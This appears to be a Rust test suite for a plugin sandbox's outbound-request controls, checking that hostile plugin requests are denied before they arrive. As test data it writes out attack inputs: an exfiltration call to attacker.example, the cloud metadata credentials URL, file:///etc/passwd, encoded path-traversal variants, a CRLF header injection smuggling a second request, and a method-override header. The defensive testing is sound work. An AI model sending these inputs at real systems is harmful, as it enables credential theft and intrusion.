//! Plugins that ask for what is not theirs.

use crate::arena::{Arena, DENIALS, Stopped};
use crate::attack::attacks;
use crate::hostile_server::HostileServer;

attacks!(
    "requests",
    "requests.rs",
    running: [
        another_origin,
        another_port,
        granted_origin_as_user_name,
        loopback_as_one_number,
        metadata_service,
        scheme_that_is_no_http,
        path_out_of_the_grant,
        path_with_encoded_dots,
        path_with_an_encoded_slash,
        path_with_parameters,
        path_encoded_twice,
        path_with_an_empty_segment,
        method_not_granted,
        header_that_ends_a_line,
        header_of_the_hosts,
        header_that_overrides_the_method,
        url_without_end,
        a_hundred_thousand_requests,
    ],
    refused: [],
);

/// Asks `url` where only the server is granted; the request must be denied for this reason, and never arrive.
fn denied(
    arena: &mut Arena,
    url: impl Fn(&HostileServer) -> String,
    lines: &str,
    reason: &str,
) -> Result<Stopped, String> {
    let server = HostileServer::start(|connection| connection.answer(200, "reached"))?;
    arena.probe(&server, &format!("url: '{}'\n{lines}", url(&server)))?;
    arena.start()?;
    arena.says(&["probe", "no answer: "])?;
    let stopped = arena.stopped("denied", DENIALS, &["probe", &format!("reason=\"{reason}\"")])?;
    arena.lists_denial("probe", reason)?;
    arrived_nowhere(&server, stopped)
}

fn arrived_nowhere(server: &HostileServer, stopped: Stopped) -> Result<Stopped, String> {
    match server.heads().first() {
        Some(head) => Err(format!("this arrived: {head}")),
        None => Ok(stopped),
    }
}

/// The request is malformed rather than out of bounds, and never arrives.
fn malformed(arena: &mut Arena, lines: &str) -> Result<Stopped, String> {
    let server = HostileServer::start(|connection| connection.answer(200, "reached"))?;
    arena.probe(&server, lines)?;
    arena.start()?;
    arena.says(&["probe", "no answer: "])?;
    let labels = ["probe", "outcome=\"invalid_request\""];
    let stopped = arena.stopped("invalid_request", "kiln_egress_requests_total", &labels)?;
    arrived_nowhere(&server, stopped)
}

/// Scenario: a request to an origin that is not granted.
/// Guarantees: denied before its name is looked up.
fn another_origin(arena: &mut Arena) -> Result<Stopped, String> {
    denied(arena, |_| "http://attacker.example/?stolen=1".to_owned(), "", "origin")
}

/// Scenario: a request to another port of a granted host.
/// Guarantees: denied: the port is part of the origin.
fn another_port(arena: &mut Arena) -> Result<Stopped, String> {
    denied(arena, |_| "http://127.0.0.1:1/".to_owned(), "", "origin")
}

/// Scenario: a URL that begins with the granted origin, which turns out to be a user name: `http://granted@attacker/`.
/// Guarantees: denied: URLs are parsed once, and what was judged is what is dialled.
fn granted_origin_as_user_name(arena: &mut Arena) -> Result<Stopped, String> {
    denied(arena, |server| format!("{}@attacker.example/", server.url()), "", "url")
}

/// Scenario: the loopback address as one number, as C libraries understand it, at a port that is not granted.
/// Guarantees: denied: it is the same origin however it is spelled.
fn loopback_as_one_number(arena: &mut Arena) -> Result<Stopped, String> {
    denied(arena, |_| "http://2130706433:1/".to_owned(), "", "origin")
}

/// Scenario: a request to the metadata service of a cloud, where credentials are given away.
/// Guarantees: denied.
fn metadata_service(arena: &mut Arena) -> Result<Stopped, String> {
    denied(arena, |_| "http://169.254.169.254/latest/meta-data/iam/security-credentials/".to_owned(), "", "origin")
}

/// Scenario: a `file:` URL.
/// Guarantees: denied: HTTP is all there is.
fn scheme_that_is_no_http(arena: &mut Arena) -> Result<Stopped, String> {
    denied(arena, |_| "file:///etc/passwd".to_owned(), "", "url")
}

/// Scenario: a path that climbs out of the granted one: `/open/../secret`.
/// Guarantees: it is judged as what it leads to, and denied.
fn path_out_of_the_grant(arena: &mut Arena) -> Result<Stopped, String> {
    denied(arena, |server| format!("{}/open/../secret", server.url()), "", "path")
}

/// Scenario: the same with the dots percent-encoded: `/open/%2e%2e/secret`.
/// Guarantees: it is judged as what it leads to, and denied.
fn path_with_encoded_dots(arena: &mut Arena) -> Result<Stopped, String> {
    denied(arena, |server| format!("{}/open/%2e%2e/secret", server.url()), "", "path")
}

/// Scenario: the same with the slash percent-encoded, which some servers decode after they have looked: `/open/..%2fsecret`.
/// Guarantees: what two servers may read differently is refused.
fn path_with_an_encoded_slash(arena: &mut Arena) -> Result<Stopped, String> {
    denied(arena, |server| format!("{}/open/..%2fsecret", server.url()), "", "ambiguous_path")
}

/// Scenario: dots with parameters, which some servers cut off after they have looked: `/open/..;/secret`.
/// Guarantees: what two servers may read differently is refused.
fn path_with_parameters(arena: &mut Arena) -> Result<Stopped, String> {
    denied(arena, |server| format!("{}/open/..;/secret", server.url()), "", "ambiguous_path")
}

/// Scenario: dots encoded twice, for a proxy and a server that decode once each: `/open/%252e%252e/secret`.
/// Guarantees: what two servers may read differently is refused.
fn path_encoded_twice(arena: &mut Arena) -> Result<Stopped, String> {
    denied(arena, |server| format!("{}/open/%252e%252e/secret", server.url()), "", "ambiguous_path")
}

/// Scenario: an empty segment, which some servers leave out before they look for the rest: `/open//secret`.
/// Guarantees: what two servers may read differently is refused.
fn path_with_an_empty_segment(arena: &mut Arena) -> Result<Stopped, String> {
    denied(arena, |server| format!("{}/open//secret", server.url()), "", "ambiguous_path")
}

/// Scenario: a DELETE where GET and POST are requested and granted.
/// Guarantees: denied.
fn method_not_granted(arena: &mut Arena) -> Result<Stopped, String> {
    denied(arena, |server| format!("{}/", server.url()), "method: delete", "method")
}

/// Scenario: a header whose value ends its line and begins another request.
/// Guarantees: refused; no line break gets into a request.
fn header_that_ends_a_line(arena: &mut Arena) -> Result<Stopped, String> {
    malformed(arena, r#"headers: [ { x-note: "a\r\nauthorization: stolen\r\n\r\nGET /secret HTTP/1.1" } ]"#)
}

/// Scenario: a header that says who asks, which is the host's to say.
/// Guarantees: refused and counted as a denial.
fn header_of_the_hosts(arena: &mut Arena) -> Result<Stopped, String> {
    denied(arena, |_| String::new(), "headers: [ { Authorization: \"Bearer mine\" } ]", "header")
}

/// Scenario: a header in which some servers look for another method than that of the request.
/// Guarantees: refused and counted as a denial.
fn header_that_overrides_the_method(arena: &mut Arena) -> Result<Stopped, String> {
    denied(arena, |_| String::new(), "headers: [ { X-HTTP-Method-Override: DELETE } ]", "header")
}

/// Scenario: a URL of a hundred thousand characters.
/// Guarantees: refused before it is parsed.
fn url_without_end(arena: &mut Arena) -> Result<Stopped, String> {
    malformed(arena, &format!("url: \"http://127.0.0.1:1/{}\"", "a".repeat(100_000)))
}

/// Scenario: a plugin sends as many requests as it can.
/// Guarantees: a collection has so many, and the rest is refused to it without a connection.
fn a_hundred_thousand_requests(arena: &mut Arena) -> Result<Stopped, String> {
    let server = HostileServer::start(|connection| connection.answer(200, "again"))?;
    arena.probe(&server, "times: 1000\ncollection_interval: 1h\nlimits: { http_requests: 5 }")?;
    arena.start()?;
    let stopped = arena.stopped("limit", "kiln_instance_limit_hits_total", &["probe", "limit=\"http_requests\""])?;
    match server.heads().len() {
        5 => Ok(stopped),
        other => Err(format!("{other} requests arrived")),
    }
}
